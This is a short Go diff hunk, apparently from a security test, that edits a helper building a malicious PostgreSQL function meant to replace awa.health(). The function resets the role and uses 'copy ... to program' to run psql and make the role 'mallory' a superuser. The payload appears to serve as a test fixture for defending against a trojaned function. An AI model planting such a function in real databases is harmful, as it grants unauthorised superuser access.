@@ -18,7 +18,7 @@ import (
 
 // evilHealth is what a member of the owner puts in place of awa.health(): it makes her a superuser, if its caller may do that. A program does it, too, since a transaction may be read-only.
 func evilHealth(databaseURL string) string {
-	return strings.ReplaceAll(`create or replace function awa.health() returns setof awa.health language plpgsql volatile security invoker as $$
+	return strings.ReplaceAll(`create or replace function awa.health() returns setof awa.health_row language plpgsql volatile security invoker as $$
 	begin
 	  begin execute 'reset role'; exception when others then null; end;
 	  begin copy (select 1) to program 'psql -X -c "alter role mallory superuser" "URL"'; exception when insufficient_privilege then null; end;
